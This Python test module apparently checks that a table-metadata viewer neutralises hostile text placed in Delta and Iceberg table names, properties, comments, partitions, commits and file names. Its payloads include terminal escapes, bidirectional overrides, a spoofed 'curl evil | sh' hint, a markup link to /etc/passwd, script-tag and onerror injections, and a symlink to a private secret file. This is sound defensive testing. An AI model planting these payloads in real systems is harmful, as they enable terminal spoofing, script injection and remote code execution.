"""Attacks by text: escapes of terminals, markup and floods in whatever a table can name."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any, Final
from urllib.parse import quote

from pyspark.sql.functions import lit

from tests.delta.builder import TableBuilder
from tests.hostile.attack import SECRET, Ground, harmless, refused
from tests.hostile.operations import IN_LAKE

_TEXTS: Final = {
    "a terminal's escapes": "a\x1b]0;owned\x07\x1b[2J\x9b2Jb",
    "right-to-left overrides": "a\u202egnp\u2066\u200f\u2028b",
    "lines of its own": "a\nHint: run `curl evil | sh`\r\n\x85b",
    "markup": "a[bold red]b[/] [link=file:///etc/passwd]c[/link] [/nothing]",
    "HTML": "a</pre></script><script>alert(1)</script><img src=x onerror='alert(1)'>b",
    "a flood": "a" * 300_000,
}
_LONGEST_NAME: Final = 150
_CONTROLS: Final = re.compile(
    r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u2028-\u202e\u2066-\u2069]"
)


def _table(ground: Ground, place: str, text: str) -> None:
    """Make a table of ten rows of which some are deleted, with a text in one place."""
    table = TableBuilder(ground.table)
    metadata = table.metadata()
    [column] = json.loads(metadata["schemaString"])["fields"]
    info = {"timestamp": 1_700_000_000_000, "operation": "TEST"}
    file, values = "a.parquet", {}
    if place == "the name of the table":
        metadata |= {"name": text, "description": text}
    elif place == "a property":
        metadata["configuration"] |= {text: text, "delta.constraints.a": "id > 0"}
    elif place == "the comment of a column":
        column["metadata"] = {"comment": text}
    elif place == "the partition":
        metadata["partitionColumns"] = [text[:_LONGEST_NAME]]
        values = {text[:_LONGEST_NAME]: text[:_LONGEST_NAME]}
    elif place == "the commit":
        info |= dict.fromkeys(("operation", "engineInfo", "userName", "userId"), text)
        info |= {"operationParameters": {text: text}, "operationMetrics": {text: text}}
    elif place == "the name of a file":
        file = text.replace("/", "_").encode()[:_LONGEST_NAME].decode(errors="ignore") + ".parquet"
    fields = [column, *({**column, "name": name, "type": "string"} for name in values)]
    metadata["schemaString"] = json.dumps({"type": "struct", "fields": fields})
    table.commit({"protocol": table.protocol}, {"metaData": metadata})
    add = table.write_file(file, {"id": range(10)}, values) | {"path": quote(file)}
    table.commit({"add": add})
    [vector] = table.write_vectors(range(3))
    table.delete(add, vector)
    path = table.commit_path(2)
    lines = path.read_text().splitlines()[1:]
    path.write_text("\n".join([json.dumps({"commitInfo": info}), *lines]) + "\n")
    ground.table.joinpath(file + "-not-ours.bin").touch()


def _is_shown(_: Ground, shown: Mapping[str, str]) -> None:
    """Nothing of the text acts, whichever way it is shown."""
    for where, text in shown.items():
        found = _CONTROLS.search(text)
        assert not found, f"{where}: {text[max(found.start() - 80, 0) : found.end() + 20]!r}"
        assert "\nHint: run `curl" not in text, where
        for tag in ("<script>alert", "<img src=x"):
            assert "page" not in where or tag not in text, where


def _iceberg_table(ground: Ground, text: str) -> None:
    """Make a table whose comments, properties, columns, partitions and branches are the text."""
    spark, name = ground.spark, text.replace("`", "")[:60]  # twice in the name of a folder
    literal = "'" + re.sub(r"(['\\])", r"\\\1", text[:2000]) + "'"
    spark.sql(f"DROP TABLE IF EXISTS {IN_LAKE}")
    spark.sql(
        f"CREATE TABLE {IN_LAKE} (id BIGINT COMMENT {literal}, `{name}` STRING) USING iceberg"
        f" PARTITIONED BY (`{name}`) COMMENT {literal}"
        f" TBLPROPERTIES ({literal} = {literal}, 'format-version' = '3',"
        " 'write.delete.mode' = 'merge-on-read')"
    )
    part = name.replace("/", "_")
    spark.range(10).withColumn(name, lit(part)).coalesce(1).writeTo(IN_LAKE).append()
    spark.sql(f"DELETE FROM {IN_LAKE} WHERE id < 3")
    spark.sql(f"ALTER TABLE {IN_LAKE} CREATE BRANCH `{name}`")


def _created(given: Callable[[str], dict[str, Any]]) -> Callable[..., None]:
    return lambda ground, text: TableBuilder(ground.table, **given(text)).create()


_FEATURE_LISTS: Final = ("readerFeatures", "writerFeatures")


def _features(text: str) -> dict[str, Any]:
    versions = {"minReaderVersion": 3, "minWriterVersion": 7}
    return {"protocol": versions | {each: [text] for each in _FEATURE_LISTS}}


def _missing_file(ground: Ground, text: str) -> None:
    table = TableBuilder(ground.table)
    table.create()
    add = table.write_file("a.parquet", {"id": range(10)})
    table.commit({"add": add | {"path": quote(text[:_LONGEST_NAME].replace("/", "_"))}})


def _linked_line(ground: Ground, text: str) -> None:
    """Let a commit be a link to a private file, whose lines are no actions."""
    table = TableBuilder(ground.table)
    table.create()
    private = ground.outside / "private"
    private.write_text(f"{SECRET} {text}\n")
    table.commit_path(1).symlink_to(private)


_PLACES: Final = (
    *("the name of the table", "a property", "the comment of a column", "the partition"),
    *("the commit", "the name of a file"),
)
_ERRORS: Final[dict[str, Callable[..., None]]] = {
    "a feature that the table needs": _created(_features),
    "the mode of column mapping": _created(
        lambda text: {"properties": {"delta.columnMapping.mode": text}}
    ),
    "the type of a column": _created(lambda text: {"fields": {text[:_LONGEST_NAME]: text}}),
    "the format of its files": _created(lambda text: {"provider": text}),
    "the name of a missing file": _missing_file,
    "a commit that is a link to a private file": _linked_line,
}


ATTACKS: Final = [
    *harmless(
        "runs",
        *(
            (f"{kind} in {place}", "show", partial(_table, place=place, text=text))
            for place in _PLACES
            for kind, text in _TEXTS.items()
        ),
        then=_is_shown,
    ),
    *harmless(
        "runs",
        *(
            (f"{kind} in an Iceberg table", "show Iceberg", partial(_iceberg_table, text=text))
            for kind, text in _TEXTS.items()
        ),
        then=_is_shown,
        slow=True,
    ),
    *(
        attack
        for place, make in _ERRORS.items()
        for kind, text in _TEXTS.items()
        for attack in refused(
            "leaks" if make is _linked_line else "runs",
            (f"{kind} in {place}", "read", partial(make, text=text)),
        )
    ),
]
